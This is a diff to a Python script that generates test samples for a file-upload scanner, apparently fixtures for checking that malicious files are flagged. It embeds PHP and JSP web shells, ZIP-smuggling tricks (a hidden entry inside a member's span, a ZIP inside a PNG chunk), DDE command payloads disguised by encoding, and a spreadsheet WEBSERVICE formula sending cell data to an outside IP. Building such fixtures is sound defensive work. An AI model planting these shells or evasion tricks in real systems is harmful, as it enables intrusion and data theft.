@@ -231,6 +231,79 @@ for depth in range(8):
     level = zipped({"%d-%d.zip" % (depth, copy): level for copy in range(6)})
 sample("un-recursive-bomb.zip", level, "unscannable", name="bomb.zip", why="8 levels of 6 copies: depth and member budget")
 
+# --- Variants found by an attacker who read the code (each once a fail-open path). ---
+# A plain archive that holds a [Content_Types].xml is still walked member by member.
+sample("zip-content-types.zip", zipped({"readme.txt": text, "shell.php": "<?php system($_GET['c']); ?>",
+                                        "[Content_Types].xml": '<Types xmlns="%s"/>' % CT}), "archive_member_not_allowed", name="docs.zip")
+# An entry hidden after a member's deflate stream, inside the member's listed compressed size (streaming readers
+# see it, the central directory does not).
+hidden = io.BytesIO()
+with zipfile.ZipFile(hidden, "w", zipfile.ZIP_DEFLATED) as z:
+    z.writestr("readme.txt", text)
+raw = bytearray(hidden.getvalue())
+smuggled = zipped({"shell.jsp": "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"}, zipfile.ZIP_STORED)
+local_end = smuggled.index(b"PK\x01\x02")
+name_len = struct.unpack("<H", raw[26:28])[0]
+extra_len = struct.unpack("<H", raw[28:30])[0]
+data_start = 30 + name_len + extra_len
+compressed = struct.unpack("<I", raw[18:22])[0]
+payload = bytes(raw[data_start:data_start + compressed]) + smuggled[:local_end]
+rebuilt = io.BytesIO()
+rebuilt.write(raw[:data_start])
+rebuilt.write(payload)
+central = bytearray(raw[data_start + compressed:])
+cd = central.index(b"PK\x01\x02")
+struct.pack_into("<I", central, cd + 20, len(payload))
+eocd = central.rindex(b"PK\x05\x06")
+struct.pack_into("<I", central, eocd + 16, data_start + len(payload))
+header = bytearray(rebuilt.getvalue())
+struct.pack_into("<I", header, 18, len(payload))
+sample("zip-hidden-entry.zip", bytes(header) + bytes(central), "unscannable", name="docs.zip",
+       why="a second local entry inside the first member's compressed span")
+# Forged ZIP64 sizes near Int64.max must not crash the walker.
+big = bytearray(zipped({"a.txt": text}, zipfile.ZIP_STORED))
+cd = big.index(b"PK\x01\x02")
+struct.pack_into("<I", big, cd + 20, 0xFFFFFFFF)
+extra = struct.pack("<HHQ", 1, 8, 0x7FFFFFFFFFFFFFF0)
+name_len = struct.unpack("<H", big[cd + 28:cd + 30])[0]
+struct.pack_into("<H", big, cd + 30, len(extra))
+big[cd + 46 + name_len:cd + 46 + name_len] = extra
+eocd = big.rindex(b"PK\x05\x06")
+struct.pack_into("<I", big, eocd + 12, struct.unpack("<I", big[eocd + 12:eocd + 16])[0] + len(extra))
+sample("zip-forged-zip64.zip", bytes(big), "unscannable", name="docs.zip", why="ZIP64 sizes that overflow offsets")
+sample("zip-dot-duplicate.zip", zipped({"readme.txt": text, "./readme.txt": "other\n"}), "unscannable", name="dup.zip")
+# DDE hidden by character references, CDATA, UTF-16, a renamed main part, a defined name; a WEBSERVICE formula.
+sample("dde-entity.docx", docx("<w:p>" + run("&#68;DEAUTO c:\\\\x.exe") + "</w:p>"), "active_content", name="memo.docx")
+sample("dde-cdata.docx", docx("<w:p><w:r><w:instrText><![CDATA[DDEAUTO c:\\x.exe]]></w:instrText></w:r></w:p>"), "active_content", name="memo.docx")
+utf16 = ('<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="%s"><w:body><w:p>%s</w:p></w:body></w:document>' % (W, run("DDEAUTO cmd"))).encode("utf-16")
+sample("dde-utf16.docx", package({"word/document.xml": utf16}), "active_content", name="memo.docx")
+sample("dde-renamed-part.docx", docx("<w:p/>", {"word/main.dat": '<w:document xmlns:w="%s"><w:body><w:p>%s</w:p></w:body></w:document>' % (W, run("DDEAUTO cmd"))}),
+       "active_content", name="memo.docx", why="the part Office loads is named main.dat")
+sample("dde-defined-name.xlsx", xlsx({"xl/workbook.xml": "<workbook><definedNames><definedName name=\"e\">cmd|' /c calc'!A0</definedName></definedNames></workbook>"}),
+       "active_content", name="sheet.xlsx")
+sample("webservice.xlsx", xlsx({"xl/worksheets/sheet1.xml": '<worksheet><sheetData><row><c><f>_xlfn.WEBSERVICE("http://198.51.100.7/?"&amp;A2)</f></c></row></sheetData></worksheet>'}),
+       "active_content", name="sheet.xlsx")
+rels16 = ('<Relationships xmlns="%s"><Relationship Id="r1" Type="%s/attachedTemplate" Target="http://198.51.100.7/t.dotm" '
+          'TargetMode=" External "/></Relationships>' % (PR, R)).encode("utf-16-be")
+sample("remote-template-utf16.docx", docx("<w:p/>", {"word/_rels/settings.xml.rels": b"\xfe\xff" + rels16}), "active_content", name="memo.docx")
+sample("package-in-media.docx", docx("<w:p/>", {"word/media/Report.docx": docx("<w:p>" + run("DDEAUTO cmd") + "</w:p>")}), "active_content",
+       name="memo.docx", why="an embedded document stored under media/")
+
+# A PNG whose private chunk holds a whole ZIP (its end record's comment covers the CRC and IEND): no trailer.
+inner_zip = zipped({"shell.php": "<?php system($_GET['c']); ?>"}, zipfile.ZIP_STORED)
+plain = png_bytes()
+iend = plain.rindex(b"IEND") - 4
+chunk_data = inner_zip[:-2] + struct.pack("<H", 16)  # comment length: the chunk CRC (4) and the IEND chunk (12)
+chunk = struct.pack(">I", len(chunk_data)) + b"zIPp" + chunk_data
+chunk += struct.pack(">I", zlib.crc32(b"zIPp" + chunk_data) & 0xFFFFFFFF)
+sample("png-zip-chunk.png", plain[:iend] + chunk + plain[iend:], "type_mismatch", name="avatar.png", why="a ZIP inside a PNG chunk")
+# Markup read in another declared encoding; a UNC image; a JSP declaration in text.
+sample("svg-iso2022.svg", '<?xml version="1.0" encoding="ISO-2022-JP"?><svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
+       "active_content", name="logo.svg")
+sample("svg-unc.svg", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="\\\\198.51.100.7\\s\\x.png"/></svg>',
+       "active_content", name="logo.svg")
+sample("jsp-declaration.txt", "notes\n<%! static { try { Runtime.getRuntime().exec(\"id\"); } catch (Exception e) {} } %>\n", "active_content", name="notes.txt")
+
 with open(os.path.join(out, "manifest.json"), "w") as f:
     json.dump(manifest, f, indent=1, ensure_ascii=False)
 print(len(manifest))
